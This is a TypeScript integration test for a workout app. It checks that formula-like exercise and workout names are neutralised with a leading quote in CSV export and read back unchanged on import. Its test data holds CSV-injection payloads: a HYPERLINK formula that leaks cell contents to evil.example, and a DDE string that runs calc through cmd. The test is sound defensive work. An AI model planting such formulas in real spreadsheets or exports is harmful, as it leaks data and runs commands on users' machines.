/**
 * Issue 26, deliverable 4: a name someone typed never reaches a spreadsheet as a formula. A custom exercise named
 * `=HYPERLINK(…)` is logged, the export is written as the phone writes it (workoutsToCsv over GET /api/workout-export)
 * and every text cell that would start a formula carries a leading '; the importer reads the file back to the names
 * as they were typed, and importing it into another account stores those names again.
 */
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { Exercise } from '../../shared/api-types';
import type { ExportedWorkout } from '../../shared/data-transfer/workout-export';
import { workoutsToCsv } from '../../web/src/features/data-transfer/lib/export-files';
import { parseImportFile } from '../../web/src/features/data-transfer/lib/parse-import-file';
import { api, signUp } from '../support/api';

const FORMULAS = ['=HYPERLINK("http://evil.example/leak?d="&A2,"Open")', '+SUM(1,2)', '-2+3+cmd|\'/C calc\'!A0', '@SUM(A1:A9)'];

async function exported(token: string): Promise<ExportedWorkout[]> {
  const page = await api('GET /api/workout-export', { query: { limit: 20 }, token });
  expect(page.status, JSON.stringify(page.body)).toBe(200);
  return page.body;
}

describe('CSV export: formula-like text is neutralised, and reads back as typed', () => {
  it('writes a leading quote before each formula-like exercise, workout and note text', async () => {
    const me = await signUp();
    const exercises: Exercise[] = [];
    for (const name of FORMULAS) {
      const created = await api('POST /api/exercises', { token: me.token, body: { name, category: 'Chest', equipment: 'Barbell' } });
      expect(created.status, JSON.stringify(created.body)).toBe(201);
      exercises.push(created.body);
    }
    const logged = await api('POST /api/workout-sessions/completed', {
      token: me.token,
      body: {
        name: '=1+1',
        description: '@channel see A2',
        startTime: new Date(Date.now() - 3 * 60 * 60_000).toISOString(),
        durationMinutes: 45,
        exercises: exercises.map((exercise) => ({ exerciseId: exercise.id, sets: [{ weight: 10_000, reps: 5 }] })),
      },
    });
    expect(logged.status, JSON.stringify(logged.body)).toBe(201);

    const workouts = await exported(me.token);
    expect(workouts.flatMap((workout) => workout.sets.map((set) => set.exerciseName))).toEqual(FORMULAS);
    const csv = workoutsToCsv(workouts, 'kg');
    const rows = Papa.parse<string[]>(csv.trim()).data.slice(1);
    expect(rows.map((row) => row[3])).toEqual(FORMULAS.map((name) => `'${name}`));
    expect(rows.map((row) => [row[1], row[10]])).toEqual(FORMULAS.map(() => ["'=1+1", "'@channel see A2"]));
    for (const cell of rows.flat()) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);

    const back = parseImportFile(csv, 'kg');
    expect(back.problems).toEqual([]);
    expect(back.workouts).toHaveLength(1);
    expect(back.workouts[0]).toMatchObject({ name: '=1+1', notes: '@channel see A2' });
    expect(back.workouts[0]!.exercises.map((exercise) => exercise.name)).toEqual(FORMULAS);

    // The same file into another account: its custom exercises get the names as they were typed.
    const other = await signUp();
    const imported = await api('POST /api/workout-imports', { token: other.token, untypedBody: { workouts: back.workouts } });
    expect(imported.status, JSON.stringify(imported.body)).toBe(200);
    expect(imported.body).toMatchObject({ imported: 1, refused: 0 });
    expect([...imported.body.createdExercises].sort()).toEqual([...FORMULAS].sort());
    const again = await exported(other.token);
    expect(again[0]!.name).toBe('=1+1');
    expect(again[0]!.sets.map((set) => set.exerciseName)).toEqual(FORMULAS);
  });
});
